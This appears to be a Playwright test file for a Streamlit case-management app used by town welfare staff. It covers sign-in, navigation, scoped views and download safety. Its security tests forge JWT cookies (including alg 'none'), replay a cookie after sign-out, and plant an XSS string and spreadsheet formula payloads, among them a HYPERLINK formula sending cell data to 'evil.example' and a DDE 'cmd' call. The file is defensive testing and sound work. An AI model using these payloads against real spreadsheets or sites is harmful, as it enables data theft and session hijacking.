"""A person's flow in a real headless Chromium (Debian's /usr/bin/chromium) against `streamlit run`."""
import re
import time
import urllib.request

import pytest

from lib.access.users import COOKIE_NAME
from tests.conftest import DEMO_PASSWORDS, ROOT, TEST_COOKIE_KEY

CHROMIUM = "/usr/bin/chromium"
READY = '[data-testid="stApp"][data-test-script-state="notRunning"]'


# The servers `serve` started, by URL (a test reads one's console through it):
SERVED = {}


def serve(workbook, **extra_env):
    """Start `streamlit run app.py` on a free port for `workbook` (bench.server); yields its URL."""
    from bench.server import NotStarted, start
    try:
        server = start(workbook, **extra_env)
    except NotStarted as e:
        pytest.fail(str(e))
    SERVED[server.url] = server
    try:
        yield server.url
    finally:
        SERVED.pop(server.url, None)
        server.stop()


@pytest.fixture(scope="module")
def app_url(bad_workbook):
    yield from serve(bad_workbook)


@pytest.fixture(scope="module")
def writable_url(tmp_path_factory):
    import shutil
    from tests.conftest import SAMPLE
    folder = tmp_path_factory.mktemp("town")
    path = folder / "town.xlsx"
    shutil.copy(SAMPLE, path)
    yield from serve(path, TSUNAGU_TODAY="2026-11-24", TSUNAGU_BACKUP_DIR=str(folder / "backups"))


def launch(playwright, *args):
    """Debian's Chromium, headless, reaching nothing on its own (no updates, no sync)."""
    return playwright.chromium.launch(executable_path=CHROMIUM, headless=True, args=[
        "--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update",
        "--disable-sync", "--no-first-run", *args])


@pytest.fixture(scope="module")
def browser():
    from playwright.sync_api import sync_playwright
    with sync_playwright() as p:
        b = launch(p)
        yield b
        b.close()


@pytest.fixture
def page(browser):
    context = browser.new_context(viewport={"width": 1400, "height": 900}, locale="ja-JP")
    outside = []
    context.on("request", lambda r: outside.append(r.url) if not r.url.startswith(("http://127.0.0.1", "data:", "blob:")) else None)
    pg = context.new_page()
    pg.set_default_timeout(30_000)
    yield pg
    context.close()
    assert outside == [], f"the page tried to reach the internet: {outside[:5]}"


def window(browser, **options):
    """A new browser context (its own cookies, like another PC) and a page in it: (context, page)."""
    context = browser.new_context(**{"locale": "ja-JP", "viewport": {"width": 1400, "height": 900}, **options})
    page = context.new_page()
    page.set_default_timeout(30_000)
    return context, page


def wait_ready(page):
    page.wait_for_selector(READY)


def sign_in(page, url, username="admin"):
    """Open the app and sign in through its form, as staff do."""
    page.goto(url)
    wait_ready(page)
    page.get_by_label("ユーザー名").fill(username)
    page.get_by_label("パスワード").fill(DEMO_PASSWORDS[username])
    page.get_by_role("button", name="サインイン").click()
    page.get_by_text("サインイン中:").wait_for()
    wait_ready(page)
    # The re-login cookie is written by a small frame loaded after the page: a test that opens
    # another address at once (a person takes longer) must not outrun it.
    deadline = time.time() + 30
    while not any(c["name"] == COOKIE_NAME for c in page.context.cookies()):
        assert time.time() < deadline, "the sign-in never stored its re-login cookie"
        page.wait_for_timeout(50)


def test_title_notice_and_data_check_count(page, app_url):
    sign_in(page, app_url)
    page.get_by_role("heading", name="つなぐボード").wait_for()
    page.get_by_text("12行を表示できませんでした").wait_for()
    page.get_by_role("link", name="→ データ点検").click()
    page.get_by_role("heading", name="データ点検").wait_for()
    wait_ready(page)
    metric = page.locator('[data-testid="stMetric"]').filter(has_text="エラー").first
    assert "18件" in metric.inner_text()
    assert page.url.endswith("/tenken")
    assert page.title() == "つなぐボード"


def test_projection_link_hides_sheet_values(page, app_url):
    sign_in(page, app_url)
    page.goto(f"{app_url}/tenken?mode=projection")
    page.get_by_text("サインイン中:").wait_for()
    wait_ready(page)
    page.get_by_text("投影モードのため、セルの値は表示しません").wait_for()
    body = page.locator("body").inner_text()
    for text in ("青木世帯", "<script>", "夜間の連絡は避ける"):
        assert text not in body
    assert page.get_by_role("switch", name="投影モード").is_checked()


def test_refresh_button_rereads(page, app_url):
    sign_in(page, app_url)
    before = page.get_by_text("データ取得:").inner_text()
    page.get_by_role("button", name="最新の情報に更新").click()
    wait_ready(page)
    assert page.get_by_text("データ取得:").inner_text().startswith("データ取得: ")
    assert before.startswith("データ取得: ")
    assert page.locator('[data-testid="stException"]').count() == 0
    page.get_by_role("heading", name="つなぐボード").wait_for()


def test_board_card_opens_household_and_projection_hides_names(page, app_url):
    dialogs = []
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    sign_in(page, app_url)
    page.get_by_role("link", name="ケースボード").click()
    page.get_by_role("heading", name="ケースボード").wait_for()
    wait_ready(page)
    # The 表示名 "<script>alert(1)</script>" is shown as text and never runs:
    page.get_by_text("<script>alert(1)</script>").first.wait_for()
    assert dialogs == []
    page.get_by_role("link", name="青木世帯").click()
    page.get_by_role("heading", name="青木世帯").wait_for()
    wait_ready(page)
    assert "id=H-001" in page.url
    page.get_by_text("夜間の連絡は避ける").wait_for()
    page.locator("label").filter(has_text="投影モード").first.click()
    wait_ready(page)
    page.get_by_role("heading", name=re.compile(r"^[A-Z]+世帯$")).wait_for()
    secrets = ["青木世帯", "秋山世帯", "夜間の連絡は避ける", "町独自の欄", "要介護1"]
    # Streamlit replaces the previous run's elements one by one: wait until the rerun is done.
    page.wait_for_function("s => s.every(t => !document.body.innerText.includes(t))", arg=secrets)
    wait_ready(page)
    page.wait_for_timeout(500)
    body = page.locator("body").inner_text()
    assert [s for s in secrets if s in body] == []
    assert "mode=projection" in page.url
    assert dialogs == []


def test_tile_free_map_renders_points_and_the_gap_matrix_offline(page, writable_url):
    sign_in(page, writable_url, "houkatsu")
    page.get_by_role("link", name="社会資源マップ").click()
    page.get_by_role("heading", name="社会資源マップ").first.wait_for()
    wait_ready(page)
    chart = page.locator('[data-testid="stVegaLiteChart"]').first
    chart.locator("canvas, svg").first.wait_for()
    assert chart.bounding_box()["height"] > 300
    page.get_by_text("東部には相談窓口・居場所・サロン・通いの場がありません").wait_for()
    page.get_by_role("heading", name="地区ごとの充足状況").wait_for()


def test_staff_user_sees_only_their_scope_and_signs_out(page, writable_url):
    from lib.access import scope, users
    from lib.workbook import sources
    from lib.workbook.validate import validate
    workbook = validate(sources.read_excel(ROOT / "sample_data" / "midori_town.xlsx"))
    staff = users.user(users.load(users.DEMO_USERS_FILE), "kyotaku")
    mine = scope.scope_workbook(workbook, scope.Viewer(user=staff))["世帯"]
    hidden = set(workbook["世帯"]["表示名"]) - set(mine["表示名"])
    sign_in(page, writable_url, "kyotaku")
    page.get_by_role("link", name="ケースボード").click()
    page.get_by_role("heading", name="ケースボード").wait_for()
    wait_ready(page)
    page.get_by_role("link", name=mine[~mine["段階"].isin(["終結", "中断"])]["表示名"].iloc[0]).first.wait_for()
    body = page.locator("body").inner_text()
    assert [n for n in hidden if n in body] == []
    assert "支援会議へ\n\n0" in body or "支援会議へ\n0" in body
    page.get_by_role("button", name="サインアウト").click()
    page.get_by_role("button", name="サインイン").wait_for()
    page.goto(writable_url + "/case-board")
    page.get_by_role("button", name="サインイン").wait_for()
    assert [n for n in mine["表示名"] if n in page.locator("body").inner_text()] == []


# ---------------------------------------------------------------- the first link after a server start

FIRST_LINKS = [   # (the link a person opens first, the heading shown after sign-in, the path it ends on)
    ("/top", "つなぐボード", "/top"), ("/", "つなぐボード", "/top"), ("/setai?id=H-004", "木下世帯", "/setai"),
    ("/case-board?mode=projection", "ケースボード", "/case-board"),
    *[(f"/{old}", heading, f"/{path}") for old, heading, path in (
        ("board", "ケースボード", "case-board"), ("household", "世帯詳細", "setai"), ("plans", "プラン進捗", "shinchoku"),
        ("resources", "社会資源マップ", "shigen"), ("meeting", "会議", "kaigi"), ("check", "データ点検", "tenken"),
        ("help", "設定・ヘルプ", "settei"), ("admin", "管理", "kanri"))],
    ("/no-such-screen", "つなぐボード", "/top"),
    ("/a/b", "つなぐボード", "/top"), ("/setai/extra", "つなぐボード", "/top"),   # a path with a slash
]
# The very first request after a start, for one link of each kind (a screen, a household, 投影モード,
# a v1 file name, an unknown name, a path with a slash); the others as a browser's first request:
AFTER_A_START = ("/", "/setai?id=H-004", "/case-board?mode=projection", "/board", "/no-such-screen", "/setai/extra")


def _open_first(browser, url: str, link: str, heading: str, path: str) -> None:
    """A new browser opens `link` first: the sign-in form with no dialog and no traceback, then,
    signed in, the page asked for."""
    context, page = window(browser)
    try:
        page.goto(url + link)
        wait_ready(page)
        page.get_by_label("ユーザー名").wait_for()
        body = page.locator("body").inner_text()
        assert "Page not found" not in body and "Traceback" not in body and "KeyError" not in body
        assert page.locator('[role="dialog"]').count() == 0
        page.get_by_label("ユーザー名").fill("admin")
        page.get_by_label("パスワード").fill(DEMO_PASSWORDS["admin"])
        page.get_by_role("button", name="サインイン").click()
        page.get_by_text("サインイン中:").wait_for()
        wait_ready(page)
        page.get_by_role("heading", name=heading, exact=True).first.wait_for()
        wait_ready(page)
        assert page.locator('[role="dialog"]').count() == 0
        assert page.locator('[data-testid="stException"]').count() == 0
        assert page.url.split("?")[0].endswith(path), (link, page.url)
        if "mode=projection" in link:
            assert "mode=projection" in page.url
    finally:
        context.close()


@pytest.mark.parametrize("link, heading, path", [x for x in FIRST_LINKS if x[0] in AFTER_A_START], ids=AFTER_A_START)
def test_first_request_to_a_fresh_server_signs_in_then_opens_the_link(browser, link, heading, path):
    from tests.conftest import SAMPLE
    for url in serve(SAMPLE):
        _open_first(browser, url, link, heading, path)


def test_every_documented_link_and_v1_file_name_opens_its_page(browser, writable_url):
    """Every other documented link and v1 file name: the first one of a new browser as above, the
    others opened by the same person afterwards (signed in again from the cookie)."""
    (first, *others) = [x for x in FIRST_LINKS if x[0] not in AFTER_A_START]
    _open_first(browser, writable_url, *first)
    context, page = window(browser)
    try:
        sign_in(page, writable_url)
        for link, heading, path in [*others, ("/setai?id=H-004", "木下世帯", "/setai")]:     # a forward, then a page
            page.goto(writable_url + link)
            page.get_by_role("heading", name=heading, exact=True).first.wait_for()
            wait_ready(page)
            assert page.locator('[data-testid="stException"]').count() == 0
            assert page.url.split("?")[0].endswith(path), (link, page.url)
            # Signed in again by the cookie on the page's first run, which shows the menu (no click needed):
            menu = page.locator('[data-testid="stSidebarNav"]').get_by_role("link", name="ケースボード", exact=True)
            assert menu.is_visible(), link
    finally:
        context.close()


# ---------------------------------------------------------------- a page opened at its own address

def test_a_page_opened_at_its_own_address_finds_the_server_at_once(browser, writable_url):
    """A link to a page (…/setai?id=…) is answered with Streamlit's page told where the app's root is,
    so that it connects there at once instead of first trying …/setai/_stcore/ and pausing."""
    import gzip
    from urllib.parse import urlparse
    from lib.access.web import ROOT_HINT
    for path, hinted in (("/setai?id=H-004", True), ("/no-such-screen", True), ("/", False)):
        asked = urllib.request.Request(writable_url + path, headers={"Accept-Encoding": "gzip"})
        with urllib.request.urlopen(asked, timeout=10) as answer:
            body = answer.read()
            assert int(answer.headers.get("Content-Length", len(body))) == len(body), path
            if answer.headers.get("Content-Encoding") == "gzip":
                body = gzip.decompress(body)
        assert b'<script type="module"' in body and body.count(ROOT_HINT) == (1 if hinted else 0), path
    context, page = window(browser)
    try:
        sign_in(page, writable_url)
        requested, streams = [], []
        page.on("request", lambda r: requested.append(urlparse(r.url).path))
        page.on("websocket", lambda ws: streams.append(urlparse(ws.url).path))
        page.goto(writable_url + "/setai?id=H-004")
        page.get_by_role("heading", name="木下世帯", exact=True).wait_for()
        wait_ready(page)
        assert "/_stcore/health" in requested and streams == ["/_stcore/stream"], (requested, streams)
        assert [p for p in requested if p.startswith("/setai/")] == [], requested
    finally:
        context.close()


@pytest.mark.parametrize("address, root", [
    ("http://host/setai?id=H-004", "http://host/"), ("http://host/setai/", "http://host/"),
    ("http://host/tsunagu/kaigi#agenda", "http://host/tsunagu/"),          # the app in a proxy's folder
    ("https://host:8443/a/b/top?mode=projection", "https://host:8443/a/b/")])
def test_the_root_hint_is_the_address_without_its_last_part(browser, address, root):
    """The hint's own script, run in Chromium for an address as a person's browser would have it."""
    from lib.access.web import ROOT_HINT
    script = ROOT_HINT.decode().removeprefix("<script>").removesuffix("</script>")
    context, page = window(browser)
    try:
        assert page.evaluate(f"(location) => {{ {script}; return window.__streamlit.BACKEND_BASE_URL; }}",
                             {"href": address}) == root
    finally:
        context.close()


# ---------------------------------------------------------------- sessions and exports (security issue)

@pytest.fixture(scope="module")
def guarded(tmp_path_factory):
    """The sample town with an audit folder the test can read."""
    from tests.conftest import SAMPLE
    audit_dir = tmp_path_factory.mktemp("audit")
    for url in serve(SAMPLE, TSUNAGU_AUDIT_DIR=str(audit_dir)):
        yield url, audit_dir


def forged(payload: dict, alg: str) -> str:
    import base64
    import json
    import jwt
    if alg == "none":
        part = lambda d: base64.urlsafe_b64encode(json.dumps(d).encode()).decode().rstrip("=")   # noqa: E731
        return f"{part({'alg': 'none', 'typ': 'JWT'})}.{part(payload)}."
    return jwt.encode(payload, TEST_COOKIE_KEY, algorithm=alg)


@pytest.mark.parametrize("case", ["alg-none", "hs512", "removed-user", "text-expiry"])
def test_a_forged_or_stale_cookie_gives_the_sign_in_form(browser, guarded, case):
    url, _ = guarded
    later = time.time() + 3600
    token = {"alg-none": lambda: forged({"username": "admin", "exp_date": later}, "none"),
             "hs512": lambda: forged({"username": "admin", "exp_date": later}, "HS512"),
             "removed-user": lambda: forged({"username": "someone-removed", "exp_date": later}, "HS256"),
             "text-expiry": lambda: forged({"username": "admin", "exp_date": "2099-12-31"}, "HS256")}[case]()
    context = browser.new_context(locale="ja-JP")
    context.add_cookies([{"name": "tsunagu_board_auth", "value": token, "url": url}])
    page = context.new_page()
    try:
        page.goto(url + "/case-board")
        wait_ready(page)
        page.get_by_label("ユーザー名").wait_for(timeout=30_000)
        body = page.locator("body").inner_text()
        assert "Traceback" not in body and "サインイン中:" not in body
        assert page.locator('[data-testid="stException"]').count() == 0
    finally:
        context.close()


def test_a_cookie_replayed_after_sign_out_gives_the_sign_in_form_and_reloads_log_one_sign_in(browser, guarded):
    from lib.access import audit
    url, audit_dir = guarded
    context, page = window(browser)
    try:
        sign_in(page, url, "kyodo")
        captured = next(c for c in context.cookies() if c["name"] == "tsunagu_board_auth")
        for path in ("/case-board", "/shinchoku", "/top"):          # new page loads: the cookie signs in again
            page.goto(url + path)
            wait_ready(page)
            page.get_by_text("サインイン中:").wait_for()
        log = audit.read(audit_dir)
        assert list(log[log["user"] == "kyodo"]["event"]).count("sign_in") == 1
        page.get_by_role("button", name="サインアウト").click()
        page.get_by_label("ユーザー名").wait_for()
        thief = browser.new_context(locale="ja-JP")
        thief.add_cookies([{k: captured[k] for k in ("name", "value", "domain", "path")}])
        stolen = thief.new_page()
        stolen.goto(url + "/case-board")
        wait_ready(stolen)
        stolen.get_by_label("ユーザー名").wait_for(timeout=30_000)
        assert "サインイン中:" not in stolen.locator("body").inner_text()
        thief.close()
    finally:
        context.close()


def test_tables_offer_no_csv_download_of_their_own(page, guarded):
    url, _ = guarded
    sign_in(page, url, "kyodo")
    page.goto(url + "/shinchoku")
    wait_ready(page)
    grid = page.locator('[data-testid="stDataFrame"]').first
    grid.wait_for()
    grid.hover()
    page.wait_for_timeout(500)
    toolbar = page.locator('[data-testid="stElementToolbar"]')
    labels = [b.get_attribute("aria-label") or "" for b in toolbar.locator("button").all()]
    assert labels, "the table toolbar did not show"
    assert not [x for x in labels if "Download" in x or "ダウンロード" in x], labels


@pytest.fixture(scope="module")
def planted_formulas(tmp_path_factory):
    """The sample town where staff typed formula-looking text (kept as text in the sheet)."""
    from openpyxl import load_workbook
    from tests.conftest import SAMPLE
    folder = tmp_path_factory.mktemp("formulas")
    book = load_workbook(SAMPLE)
    payloads = ['=HYPERLINK("http://evil.example/?d="&B2,"詳細")', "=cmd|' /C calc'!A0", "@SUM(1+1)", "+81-90"]
    for sheet, column in (("支援プラン", "目標"), ("支援プラン", "取組事項"), ("経過記録", "内容")):
        header = [c.value for c in book[sheet][1]]
        for i, row in enumerate(book[sheet].iter_rows(min_row=2, max_row=9)):
            cell = row[header.index(column)]
            cell.value = payloads[i % len(payloads)]
            cell.data_type = "s"                  # typed as text (with a leading apostrophe in Excel)
    header = [c.value for c in book["世帯"][1]]
    book["世帯"].cell(row=3, column=header.index("緊急度") + 1, value="=1+1 とても高い").data_type = "s"  # for データ点検
    path = folder / "town.xlsx"
    book.save(path)
    audit_dir = folder / "audit"
    for url in serve(path, TSUNAGU_AUDIT_DIR=str(audit_dir), TSUNAGU_TODAY="2026-11-24"):
        yield url, audit_dir


def downloaded_cells(download) -> list:
    import io
    from openpyxl import load_workbook
    book = load_workbook(io.BytesIO(open(download.path(), "rb").read()))
    return [(c.value, c.data_type) for sheet in book for row in sheet.iter_rows() for c in row if c.value is not None]


def test_every_download_is_neutralised_and_audited(page, planted_formulas):
    """Click each download a person can reach; nothing comes out as a live formula, and each is audited."""
    from lib.access import audit
    url, audit_dir = planted_formulas
    sign_in(page, url, "kyodo")
    clicks = [("/shinchoku", "この一覧を Excel でダウンロード", None), ("/tenken", "Excel でダウンロード", None),
              ("/kaigi", "Excel でダウンロード", "書類")]
    seen_planted = 0
    for path, label, view in clicks:
        page.goto(url + path)
        wait_ready(page)
        if view:
            page.get_by_text(view, exact=True).click()
            wait_ready(page)
        with page.expect_download() as info:
            page.get_by_role("button", name=label).click()
        cells = downloaded_cells(info.value)
        assert cells, path
        live = [v for v, kind in cells if kind == "f" or (isinstance(v, str) and v.startswith(("=", "+", "-", "@")))]
        assert live == [], (path, live[:3])
        seen_planted += sum(1 for v, _ in cells if isinstance(v, str) and v.startswith(("'=", "'@", "'+")))
        wait_ready(page)
    assert seen_planted > 0                              # the planted text did come out, as text
    log = audit.read(audit_dir)
    downloads = log[(log["event"] == "download") & (log["user"] == "kyodo")]
    assert len(downloads) == len(clicks)


def test_no_file_is_served_before_someone_asks_for_it(page, planted_formulas):
    """Paperwork is built when a person clicks, not on every render: the page links no /media file."""
    import urllib.error
    url, _ = planted_formulas
    sign_in(page, url, "kyodo")
    page.goto(url + "/kaigi")
    wait_ready(page)
    page.get_by_text("書類", exact=True).click()
    wait_ready(page)
    page.get_by_role("button", name="PDF でダウンロード").wait_for()
    import re
    assert re.findall(r'["\'(]/media/[0-9a-f]+', page.content()) == []
    try:
        status = urllib.request.urlopen(f"{url}/media/0123456789abcdef.pdf", timeout=5).status
    except urllib.error.HTTPError as e:
        status = e.code
    assert status == 404


# Watches how often the page's script runs (stApp's script state), from before sign-in:
RUNS_WATCHER = """() => {
    window.__runs = [];
    const app = document.querySelector('[data-testid="stApp"]');
    new MutationObserver(() => window.__runs.push([app.getAttribute('data-test-script-state'), performance.now()]))
        .observe(app, {attributes: true, attributeFilter: ['data-test-script-state']});
}"""


def test_home_is_drawn_once_after_sign_in_and_the_cookie_is_stored(browser, guarded):
    """After サインイン the page runs once (no second drawing a moment later, during which a menu
    click was lost); the browser keeps the re-login cookie, and a new page load is signed in by it."""
    url, _ = guarded
    context, page = window(browser)
    try:
        page.goto(url)
        wait_ready(page)
        page.evaluate(RUNS_WATCHER)
        page.get_by_label("ユーザー名").fill("kyodo")
        page.get_by_label("パスワード").fill(DEMO_PASSWORDS["kyodo"])
        page.get_by_role("button", name="サインイン").click()
        page.get_by_text("サインイン中:").wait_for()              # ホーム is being drawn for the signed-in person
        drawn = page.evaluate("performance.now()")
        time.sleep(3)                                              # the moment the second drawing came in
        runs = page.evaluate("window.__runs")
        assert [at for state, at in runs if state == "running" and at > drawn] == [], runs
        assert any(c["name"] == "tsunagu_board_auth" for c in context.cookies())
        page.goto(url + "/case-board")                             # a new connection: signed in by the cookie
        wait_ready(page)
        page.get_by_text("サインイン中:").wait_for()
    finally:
        context.close()
